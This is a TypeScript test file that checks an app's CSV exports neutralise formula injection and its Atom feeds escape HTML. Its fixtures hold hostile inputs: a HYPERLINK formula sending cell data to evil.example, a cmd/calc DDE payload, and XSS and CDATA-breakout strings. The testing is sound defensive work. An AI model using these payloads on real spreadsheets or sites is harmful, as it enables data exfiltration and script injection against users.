import { Verdict } from '@synapse/domain';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildCouncil, buildExperiment } from '../../../test/factories.js';
import { startTestServer, type TestServer } from '../../../test/http.js';
import { entityManager } from '../../db/orm.js';
import { Artefact } from '../artefact/artefact.entity.js';
import { Experiment } from '../experiment/experiment.entity.js';
import { Outcome } from '../outcome/outcome.entity.js';
import { neutraliseCell } from './csv-cells.js';

// Published text is hostile: exports must not run formulas in spreadsheets, feeds must not run HTML in readers.
let server: TestServer;
let slug: string;
beforeAll(async () => {
  server = await startTestServer({ SYNAPSE_SEED_DEMO: 'false' }, { search: false });
  const em = entityManager(server.orm).fork();
  const council = await buildCouncil(em);
  const experiment = await buildExperiment(em, { lead: council, title: '=HYPERLINK("https://evil.example/?d="&A1,"Click")', outcomes: [{ verdict: Verdict.HARMFUL }], artefacts: 1 });
  slug = experiment.slug;
  await em.nativeUpdate(Experiment, { id: experiment.id }, { summary: '<img src=x onerror=alert(1)>]]><script>alert(2)</script>' });
  await em.nativeUpdate(Outcome, { experiment: experiment.id }, { title: '@SUM(1+1)*cmd|/C calc!A0' });
  await em.nativeUpdate(Artefact, { experiment: experiment.id }, { title: '\t-2+3', description: '\r+cmd' });
});
afterAll(async () => {
  await server?.close();
});

async function csv(path: string): Promise<Record<string, string>[]> {
  const response = await fetch(`${server.base}${path}`);
  expect(response.status).toBe(200);
  return parse(await response.text(), { columns: true, relax_quotes: true }) as Record<string, string>[];
}

describe('safe exports and feeds', () => {
  it('neutralises every cell that starts like a formula, as OWASP advises', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(neutraliseCell(`${start}1+1`)).toBe(`'${start}1+1`);
    expect(neutraliseCell('Housing First')).toBe('Housing First');
    expect(neutraliseCell('2024-01-15')).toBe('2024-01-15');
  });

  it('writes formula-like titles as text in the experiments, outcomes and artefacts CSV, with words beside codes', async () => {
    const [experiment] = (await csv('/export/experiments.csv')).filter((row) => row.slug === slug);
    expect(experiment?.title).toBe(`'=HYPERLINK("https://evil.example/?d="&A1,"Click")`);
    expect(experiment).toMatchObject({ latest_verdict: 'HARMFUL', latest_verdict_label: 'Made things worse', stage: 'PILOT', stage_label: 'Pilot', nation: 'ENGLAND', nation_label: 'England' });
    const [outcome] = (await csv('/export/outcomes.csv')).filter((row) => row.experiment === slug);
    expect(outcome).toMatchObject({ title: `'@SUM(1+1)*cmd|/C calc!A0`, verdict: 'HARMFUL', verdict_label: 'Made things worse', evaluationDesignLabel: 'Before and after comparison' });
    const [artefact] = (await csv('/export/artefacts.csv')).filter((row) => row.experiment === slug);
    expect(artefact).toMatchObject({ title: `'\t-2+3`, description: `'\r+cmd`, type_label: 'Toolkit', licence_label: 'Open Government Licence v3.0' });
    const [organisation] = await csv('/export/organisations.csv');
    expect(organisation?.kind_label).toMatch(/^[A-Z][a-z ]+$/);
  });

  it('sends titles and summaries to feed readers as escaped text, never as live HTML', async () => {
    const atom = await (await fetch(`${server.base}/feeds/experiments.atom`)).text();
    expect(atom).not.toMatch(/<img|<script/);
    expect(atom).toContain('&#60;img src=x onerror=alert(1)&#62;');
    // A CDATA terminator in user text cannot close the section early.
    expect(atom).not.toContain(']]><script');
  });
});
